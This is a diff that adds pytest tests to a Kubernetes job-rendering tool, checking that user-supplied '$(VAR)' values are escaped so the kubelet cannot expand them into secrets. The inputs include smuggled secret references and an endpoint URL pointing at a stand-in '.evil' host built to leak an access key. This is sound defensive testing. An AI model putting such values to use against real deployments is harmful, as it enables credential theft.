@@ -730,3 +730,99 @@ def test_fit_args_are_parsed_as_the_runner_s_fit_will(capsys, fit_args, message)
     assert lines[0].endswith("(see scaleattn submit --help)")
     assert dry_run(capsys, ["s3://b/ds.zarr", "--out", "s3://b/run", "--registry", "r.example.com/ml", "--dry-run",
                             "--fit-args", "--heads minimal --no-plots"])
+
+
+# ------------------------------------------------------------------------------------------------ $(VAR) expansion
+
+#: the kubelet expands $(VAR) in a container's args and env values from its environment, which holds the Secret
+SECRET_ENV = {"AWS_ACCESS_KEY_ID": "AKIA-TEST", "AWS_SECRET_ACCESS_KEY": "the-secret", "DATASET": "s3://other/x",
+              "DASK_SCHEDULER_ADDRESS": "tcp://sched:8786", "HOSTNAME": "runner-0"}
+#: values a user may give that hold a $: every one must reach the pods as written
+DOLLARS = ["$(AWS_SECRET_ACCESS_KEY)", "$$(AWS_SECRET_ACCESS_KEY)", "$(DATASET)", "$(NOT_DEFINED)", "$(", "$$", "$",
+           "a$b", "$(AWS_ACCESS_KEY_ID)$(HOSTNAME)", "$$$(AWS_SECRET_ACCESS_KEY)", "$()"]
+
+
+def _pod_sees(job: dict) -> tuple[list[str], dict]:
+    """The runner's args and env values as the kubelet expands them (tests/k8s_pods.expand: its rule)."""
+    from .k8s_pods import expand
+
+    c = pods_of(job)["runner"]["containers"][0]
+    env = dict(SECRET_ENV)
+    for e in c["env"]:
+        env[e["name"]] = expand(e["value"], env)
+    return [expand(a, env) for a in c["args"]], env
+
+
+@pytest.mark.parametrize("dollar", DOLLARS)
+@pytest.mark.parametrize("field", ["dataset", "out", "storage_option", "fit_args", "fit_args_joined"])
+def test_every_user_value_reaches_the_pod_as_validated(field, dollar):
+    dataset, out = "s3://b/data/ds.zarr", "s3://b/runs/r1"
+    kw: dict = {}
+    if field == "dataset":
+        dataset = f"s3://b/data/{dollar}.zarr"
+    elif field == "out":
+        out = f"s3://b/runs/{dollar}"
+    elif field == "storage_option":
+        kw["storage_options"] = {"endpoint_url": f"https://minio.example/{dollar}", "anon": "false"}
+    elif field == "fit_args":
+        kw["fit_args"] = ["--heads", "minimal", "--checkpoint", f"s3://b/ck/{dollar}"]
+    else:
+        kw["fit_args"] = [f"--checkpoint=s3://b/{dollar}/ck"]
+    job = submit.render_daskjob(dataset, out, secret="scaleattn-s3", **kw)
+    args, env = _pod_sees(job)
+    assert env["DATASET"] == dataset and env["OUT"] == out
+    assert args[:5] == ["scaleattn", "fit", dataset, "--out", out]
+    assert args[5:7] == ["--scheduler", SECRET_ENV["DASK_SCHEDULER_ADDRESS"]]  # (ours: expanded, as meant)
+    tail = args[args.index("--resume") + 1:]
+    if field == "storage_option":
+        assert tail == ["--storage-option", f"endpoint_url=https://minio.example/{dollar}",
+                        "--storage-option", "anon=false"]
+    elif field.startswith("fit_args"):
+        assert tail == kw["fit_args"]
+    else:
+        assert tail == []
+    assert not any("the-secret" in a for a in args) and "the-secret" not in (env["DATASET"] + env["OUT"])
+
+
+def test_submit_dry_run_escapes_what_the_kubelet_would_expand(capsys):
+    """Through the command line: the YAML carries $$( where the user wrote $(, and the pod sees the user's text."""
+    job = dry_run(capsys, ["s3://b/$(AWS_SECRET_ACCESS_KEY).zarr", "--out", "s3://b/out-$(HOSTNAME)",
+                           "--storage-option", "endpoint_url=http://$(AWS_ACCESS_KEY_ID).evil:9000",
+                           "--fit-args", "--checkpoint s3://b/$(DATASET)/ck --heads minimal", "--dry-run"])
+    runner = pods_of(job)["runner"]["containers"][0]
+    values = {e["name"]: e["value"] for e in runner["env"]}
+    assert values["DATASET"] == "s3://b/$$(AWS_SECRET_ACCESS_KEY).zarr" and values["OUT"] == "s3://b/out-$$(HOSTNAME)"
+    args, env = _pod_sees(job)
+    assert env["DATASET"] == "s3://b/$(AWS_SECRET_ACCESS_KEY).zarr" and env["OUT"] == "s3://b/out-$(HOSTNAME)"
+    assert args[-6:] == ["--storage-option", "endpoint_url=http://$(AWS_ACCESS_KEY_ID).evil:9000", "--checkpoint",
+                         "s3://b/$(DATASET)/ck", "--heads", "minimal"]
+    # every other string of the manifest that a kubelet expands is the package's own (no user text, no $ but ours)
+    ours = {"$(DATASET)", "$(OUT)", "$(DASK_SCHEDULER_ADDRESS)", "$(DASK_WORKER_NAME)"}
+    for p in pods_of(job).values():
+        for c in p["containers"]:
+            for a in c.get("args", []) + [e.get("value", "") for e in c.get("env", [])]:
+                assert "$" not in a.replace("$$", "") or a in ours, a
+
+
+@pytest.mark.parametrize("kwargs, match", [
+    (dict(name="fit-$(x)"), "name must be"),
+    (dict(namespace="$(NS)"), "namespace must be"),
+    (dict(secret="s3-$(X)"), "secret must be"),
+    (dict(image="registry.example.com/ml/scaleattn:$(TAG)"), "image must be"),
+    (dict(image="$(IMAGE)"), "image must be"),
+    (dict(registry="registry.example.com/$(X)"), "registry"),
+    (dict(node_selector={"pool": "$(POOL)"}), "not a valid label value"),
+    (dict(node_selector={"$(K)": "x"}), "not a valid label key"),
+    (dict(storage_options={"$(K)": "x"}), "storage option names must be identifiers"),
+])
+def test_values_that_cannot_be_escaped_are_refused(kwargs, match):
+    """Fields that are not args or env values (names, labels, the image) cannot hold a $: refused, one line."""
+    with pytest.raises(ValueError, match=match):
+        submit.render_daskjob("s3://b/ds.zarr", "s3://b/run", **kwargs)
+
+
+def test_submit_refuses_a_dollar_in_a_name_in_one_line(capsys):
+    rc = cli_main(["submit", "s3://b/ds.zarr", "--out", "s3://b/r", "--name", "fit-$(X)", "--dry-run"])
+    out, err = capsys.readouterr()
+    assert rc == 2 and out == ""
+    assert err.startswith("scaleattn submit: error: ") and len(err.strip().splitlines()) == 1
